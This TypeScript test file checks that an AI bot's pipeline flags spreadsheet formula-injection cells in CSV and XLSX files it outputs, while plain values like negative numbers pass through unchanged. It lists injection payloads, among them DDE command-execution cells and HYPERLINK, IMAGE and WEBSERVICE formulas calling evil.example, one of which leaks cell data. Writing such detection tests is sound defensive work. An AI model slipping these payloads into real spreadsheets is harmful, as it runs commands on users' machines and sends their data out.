import type { Execution, FormulaCells } from '../../src/types.ts';
import { createScriptedModel, pythonCall } from '../../test/fakes/scripted-model.ts';
import type { Attack } from '../attack.ts';
import { startConversation } from '../bots.ts';
import { judge, take } from '../outside.ts';

/** Cells that make a spreadsheet program call, fetch or start something. */
const hostile = [
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("https://evil.example/?d="&A2,"click")',
  '+IMAGE("https://evil.example/p.png")',
  '-2+3+WEBSERVICE("https://evil.example")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=IMPORTXML("https://evil.example","//a")',
  '\r=DDE("cmd";"/C calc";"a")',
];

/** What begins with the same signs and is a plain value. */
const harmless = ['-5', '-5.25', '+3', '-1e-3', '-12%', '+49 30 123456', '- a note', '@ada', '--', '-'];

/** Threat 16: files that go out and run in the person's spreadsheet program. */
export const formulaAttacks: readonly Attack[] = [
  {
    id: 't16-csv',
    threat: 16,
    attack: 'a CSV with cells that begin with = + - @, tab and CR: the bot is told of them',
    alone: false,
    run: async (stage) => {
      const session = await stage.borrowed();
      const execution = await stage.run(session, writeCsv('hostile.csv', hostile));
      const found = formulasOf(execution, 'hostile.csv');
      return judge(
        {
          'all are counted': found?.count === hostile.length,
          'the first are shown, with their place':
            found?.examples.some(({ cell, text }) => /^A2$/.test(cell) && text.startsWith('=cmd|')) === true,
        },
        told(found),
      );
    },
  },
  {
    id: 't16-numbers',
    threat: 16,
    attack:
      'a CSV of negative numbers, phone numbers and dashes: nothing is flagged, and every byte comes out as it was',
    alone: false,
    run: async (stage) => {
      const session = await stage.borrowed();
      const execution = await stage.run(session, writeCsv('plain.csv', harmless));
      const found = formulasOf(execution, 'plain.csv');
      const { bytes } = await take(session, 'plain.csv', stage.signal);
      return judge(
        {
          'nothing is flagged': found === null,
          'every value comes out':
            bytes.toString() === ['text,n', ...harmless.map((text) => `${text},-5`), ''].join('\r\n'),
        },
        found === null ? `${harmless.length} values, none flagged` : told(found),
      );
    },
  },
  {
    id: 't16-xlsx',
    threat: 16,
    attack:
      'a workbook with HYPERLINK, IMAGE, WEBSERVICE and DDE formulas beside sums and negative numbers: only the first are told of',
    alone: false,
    run: async (stage) => {
      const session = await stage.borrowed();
      const reaching = [
        '=HYPERLINK("https://evil.example","x")',
        '=IMAGE("https://evil.example/p.png")',
        '=_xlfn.WEBSERVICE("https://evil.example")',
        "=cmd|'/C calc'!A0",
      ];
      const execution = await stage.run(
        session,
        `import openpyxl
book = openpyxl.Workbook(); sheet = book.active; sheet.title = 'Out'
for text in ${JSON.stringify([...reaching, '=SUM(B1:B2)', '=A1+1'])}: sheet.append([text, -5])
book.save('reaching.xlsx')
for row in range(5, 0, -1): sheet.delete_rows(row)
book.save('plain.xlsx')`,
      );
      const found = formulasOf(execution, 'reaching.xlsx');
      return judge(
        {
          'those that reach out are counted': found?.count === reaching.length,
          'with sheet and cell': found?.examples[0]?.cell === 'Out!A1',
          'plain ones are not': formulasOf(execution, 'plain.xlsx') === null,
        },
        told(found),
      );
    },
  },
  {
    id: 't16-reply',
    threat: 16,
    attack: 'such a CSV among the answer’s files: the reply names the file and says what its cells would do',
    alone: false,
    run: async (stage) => {
      const model = createScriptedModel([
        { calls: [pythonCall(`${writeCsv('export.csv', hostile)}\n${writeCsv('fine.csv', harmless)}`)] },
        { text: 'Here it is.' },
      ]);
      await using bot = await startConversation(stage, model);
      const { reply } = await bot.platform.ask('thread', 'export it');
      const said = reply.notices.filter((notice) => /formula/i.test(notice));
      return judge(
        {
          'both files go out': reply.artifacts.length === 2,
          'the hostile one is named': said.some((notice) => notice.includes('export.csv')),
          'the other is not': !said.some((notice) => notice.includes('fine.csv')),
        },
        said.join(' '),
      );
    },
  },
];

function writeCsv(name: string, cells: readonly string[]): string {
  return `import csv
with open('${name}', 'w', newline='') as file:
    writer = csv.writer(file)
    writer.writerow(['text', 'n'])
    writer.writerows([text, -5] for text in ${JSON.stringify(cells)})`;
}

function formulasOf(execution: Execution, path: string): FormulaCells | null {
  return execution.files.find((file) => file.path === path)?.formulas ?? null;
}

function told(found: FormulaCells | null): string {
  if (found === null) return 'nothing is told';
  return `${found.count} told of: ${found.examples.map(({ cell, text }) => `${cell} ${text.trim()}`).join(', ')}`;
}
